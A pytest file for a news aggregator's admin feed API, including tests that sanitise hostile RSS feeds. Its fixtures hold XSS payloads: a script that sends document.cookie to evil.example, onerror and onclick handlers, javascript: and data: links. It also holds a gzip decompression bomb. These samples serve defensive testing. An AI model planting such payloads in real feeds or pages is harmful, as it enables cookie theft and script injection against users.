"""The admins' feed list (403 for others, 422/409/404), and live reads of hostile, broken, oversized and
duplicate feeds (served by an httpx MockTransport): sanitised or refused, the other feeds still stored."""

from __future__ import annotations

import asyncio
import gzip
from datetime import timedelta
from email.utils import format_datetime
from typing import Any

import httpx
import pytest
from sqlalchemy import select

from app.config import Settings
from app.content import aggregator
from app.content.feeds import DEFAULT_FEEDS
from app.content.models import NewsFeed, NewsItem
from app.core.clock import utcnow
from app.integrations.http import ResponseTooLarge
from app.integrations.rss import NewsFeeds
from tests.conftest import Account, assert_error, make_admin, register, serve
from tests.reports.conftest import app_of

FEEDS = "/api/content/feeds"


@pytest.fixture
async def admin(settings: Settings, client: httpx.AsyncClient) -> Account:
    account = await register(client)
    await make_admin(settings, account.id)
    return account


async def test_only_admins_see_and_change_the_feeds(client: httpx.AsyncClient, admin: Account) -> None:
    user = await register(client)
    for method, path, body in (
        ("GET", FEEDS, None),
        ("POST", FEEDS, {"url": "https://example.com/feed"}),
        ("PATCH", f"{FEEDS}/1", {"enabled": False}),
        ("DELETE", f"{FEEDS}/1", None),
        ("POST", f"{FEEDS}/refresh", None),
    ):
        refused = await client.request(method, path, json=body, headers=user.headers)
        assert_error(refused, 403, "FORBIDDEN")

    listed = (await client.get(FEEDS, headers=admin.headers)).json()["data"]
    assert listed["count"] == len(DEFAULT_FEEDS) == len(listed["feeds"])
    assert [f["url"] for f in listed["feeds"]] == [url for _, url, _ in DEFAULT_FEEDS]
    assert {f["kind"] for f in listed["feeds"]} == {"RSS", "REDDIT"} and all(
        f["enabled"] for f in listed["feeds"]
    )


async def test_adding_pausing_and_removing_a_feed(client: httpx.AsyncClient, admin: Account) -> None:
    def add(body: dict[str, Any]) -> Any:
        return client.post(FEEDS, json=body, headers=admin.headers)

    for body in (
        {"url": "not a url"},
        {"url": "ftp://example.com/feed"},
        {"url": "javascript:alert(1)"},
        {"url": "https://example.com/r/Bitcoin", "kind": "REDDIT"},
        {"url": "https://www.reddit.com/r/x", "kind": "REDDIT"},  # one letter: no subreddit
    ):
        assert assert_error(await add(body), 422, "VALIDATION_ERROR")["field"] == "url", body

    created = await add({"url": "https://example.com/crypto.xml", "title": "Example"})
    assert created.status_code == 201, created.text
    feed = created.json()["data"]
    assert feed["kind"] == "RSS" and feed["enabled"] is True and feed["lastFetchedAt"] is None
    assert (
        assert_error(await add({"url": "https://example.com/crypto.xml"}), 409, "CONFLICT")["field"] == "url"
    )
    default = await add({"url": "https://cointelegraph.com/rss"})
    assert assert_error(default, 409, "CONFLICT")["field"] == "url"

    reddit = await add({"url": "https://old.reddit.com/r/CryptoMarkets/", "kind": "REDDIT"})
    assert reddit.status_code == 201, reddit.text
    assert reddit.json()["data"]["url"] == "https://www.reddit.com/r/CryptoMarkets"
    again = await add({"url": "https://www.reddit.com/r/CryptoMarkets", "kind": "REDDIT"})
    assert_error(again, 409, "CONFLICT")

    paused = await client.patch(f"{FEEDS}/{feed['id']}", json={"enabled": False}, headers=admin.headers)
    assert paused.status_code == 200 and paused.json()["data"]["enabled"] is False
    removed = await client.delete(f"{FEEDS}/{feed['id']}", headers=admin.headers)
    assert removed.status_code == 204
    listed = (await client.get(FEEDS, headers=admin.headers)).json()["data"]["feeds"]
    assert feed["id"] not in {f["id"] for f in listed}

    gone = feed["id"]
    assert_error(
        await client.patch(f"{FEEDS}/{gone}", json={"enabled": True}, headers=admin.headers), 404, "NOT_FOUND"
    )
    assert_error(await client.delete(f"{FEEDS}/{gone}", headers=admin.headers), 404, "NOT_FOUND")
    assert_error(await client.patch(f"{FEEDS}/1", json={}, headers=admin.headers), 422, "VALIDATION_ERROR")


def _rss(title: str, items: list[tuple[str, str, str]]) -> bytes:
    when = format_datetime(utcnow() - timedelta(hours=1), usegmt=True)
    entries = "".join(
        f"<item><title>{t}</title><link>{link}</link><description>{d}</description><pubDate>{when}</pubDate></item>"
        for t, link, d in items
    )
    channel = f"<channel><title>{title}</title>{entries}</channel>"
    return f'<?xml version="1.0"?><rss version="2.0">{channel}</rss>'.encode()


HOSTILE = _rss(
    "Hostile",
    [
        (
            "Ether &lt;b&gt;jumps&lt;/b&gt; 5%&lt;script&gt;alert('x')&lt;/script&gt;",
            "https://hostile.example/ether?utm_source=feed",
            "<![CDATA[<p onclick='steal()'>ETH rallies</p><img src=x onerror=alert(1)>"
            "<script>document.location='https://evil.example/?'+document.cookie</script><style>p{}</style>]]>",
        ),
        ("Click me", "javascript:alert(1)", "a trap"),
        ("Data me", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "another trap"),
        ("Bitcoin ETF inflows hit a record as institutions pile in", "https://hostile.example/btc", "Flows."),
        (
            "Solana validators approve the fee burn change for the whole network",
            "https://hostile.example/sol",
            ".",
        ),
    ],
)
ECHO = _rss(
    "Echo",
    [
        (
            "Bitcoin ETF inflows hit a record, as institutions pile in!",
            "https://echo.example/btc-etf",
            "Same.",
        ),
        ("Something else entirely", "https://HOSTILE.example/ether/?utm_campaign=x", "Same URL."),
        (
            "Solana validators approve the fee burn change for the whole network today",
            "https://echo.example/s",
            ".",
        ),
        ("Cardano upgrade goes live", "https://echo.example/ada", "A new story."),
    ],
)
TRUNCATED = HOSTILE[: HOSTILE.index(b"<item>", HOSTILE.index(b"<item>") + 1) + 40].replace(
    b"hostile.example", b"truncated.example"
)


def _served(request: httpx.Request) -> httpx.Response:
    bodies = {
        "hostile.example": HOSTILE,
        "echo.example": ECHO,
        "garbage.example": b"this is not xml <<<>>> &&",
        "html.example": b"<html><body><p>Not a feed</p></body></html>",
        "huge.example": b"<rss>" + b"x" * 50_000 + b"</rss>",
        "truncated.example": TRUNCATED,
    }
    body = bodies.get(request.url.host)
    if body is None:
        return httpx.Response(404, text="nothing here")
    return httpx.Response(200, content=body, headers={"content-type": "application/rss+xml"})


async def test_hostile_broken_huge_and_duplicate_feeds(settings: Settings) -> None:
    live = settings.model_copy(update={"research_live": True, "news_feed_max_bytes": 20_000})
    async with serve(live) as client:
        admin = await register(client)
        await make_admin(live, admin.id)
        feeds = (await client.get(FEEDS, headers=admin.headers)).json()["data"]["feeds"]
        for feed in feeds:  # only the served feeds are read
            await client.patch(f"{FEEDS}/{feed['id']}", json={"enabled": False}, headers=admin.headers)
        hosts = ("hostile", "echo", "garbage", "html", "huge", "truncated")
        for host in hosts:
            added = await client.post(
                FEEDS, json={"url": f"https://{host}.example/feed"}, headers=admin.headers
            )
            assert added.status_code == 201, added.text
        runtime = app_of(client).state.runtime

        run = await aggregator.refresh(runtime, transport=httpx.MockTransport(_served))
        assert run is not None
        assert run.feeds == len(hosts) and len(run.failed) == 3
        assert {f.split(": ")[0] for f in run.failed} == {
            "https://garbage.example/feed",
            "https://html.example/feed",
            "https://huge.example/feed",
        }
        async with runtime.db.session() as session:
            items = list(await session.scalars(select(NewsItem).order_by(NewsItem.id)))
            rows = {r.url: r for r in await session.scalars(select(NewsFeed))}

        # hostile: 3 stories (the javascript: and data: links dropped); echo: 1 new (the others repeat them)
        assert run.added == len(items) == 4
        by_url = {i.url: i for i in items}
        ether = by_url["https://hostile.example/ether"]
        assert ether.title == "Ether jumps 5%" and ether.summary == "ETH rallies"
        assert ether.symbols == ["ETH-USD"] and ether.snapshot is False and 0 <= (ether.sentiment or 0) <= 1
        assert set(by_url) == {
            "https://hostile.example/ether",
            "https://hostile.example/btc",
            "https://hostile.example/sol",
            "https://echo.example/ada",
        }
        assert all(i.url.startswith("https://") for i in items)
        assert rows["https://hostile.example/feed"].last_error is None
        assert rows["https://hostile.example/feed"].last_items == 5
        assert "cap" in (rows["https://huge.example/feed"].last_error or "")
        assert rows["https://garbage.example/feed"].last_error
        assert rows["https://html.example/feed"].last_error
        # Truncated XML: what could be read is read (a repeat of hostile's story), and the admins see why.
        assert "not well-formed" in (rows["https://truncated.example/feed"].last_error or "")

        again = await aggregator.refresh(runtime, transport=httpx.MockTransport(_served))
        assert again is not None and again.added == 0

        page = (await client.get("/api/content/news", headers=admin.headers)).json()["data"]
        assert page["count"] == 4 and page["snapshot"] is False


async def test_a_feed_over_the_cap_is_refused_however_it_is_sent(settings: Settings) -> None:
    capped = settings.model_copy(update={"news_feed_max_bytes": 20_000})
    bomb = gzip.compress(HOSTILE + b"<!--" + b" " * 200_000 + b"-->")  # ~1 KB on the wire

    def chunked(request: httpx.Request) -> httpx.Response:
        if request.url.host == "bomb.example":
            return httpx.Response(200, content=bomb, headers={"content-encoding": "gzip"})
        # No Content-Length: the size is only known while reading.
        return httpx.Response(200, stream=httpx.ByteStream(HOSTILE + b" " * 30_000))

    async with NewsFeeds(capped, transport=httpx.MockTransport(chunked)) as client:
        for url in ("https://stream.example/feed", "https://bomb.example/feed"):
            with pytest.raises(ResponseTooLarge):
                await client.fetch(url)
    async with NewsFeeds(settings, transport=httpx.MockTransport(chunked)) as client:
        assert len(await client.fetch("https://bomb.example/feed")) == 5  # under the default 5 MB cap


async def test_concurrent_refreshes_run_once(client: httpx.AsyncClient) -> None:
    runtime = app_of(client).state.runtime
    first, second = await asyncio.gather(aggregator.refresh(runtime), aggregator.refresh(runtime))
    assert (first is None) != (second is None)
    done = first or second
    assert done is not None and done.added > 60
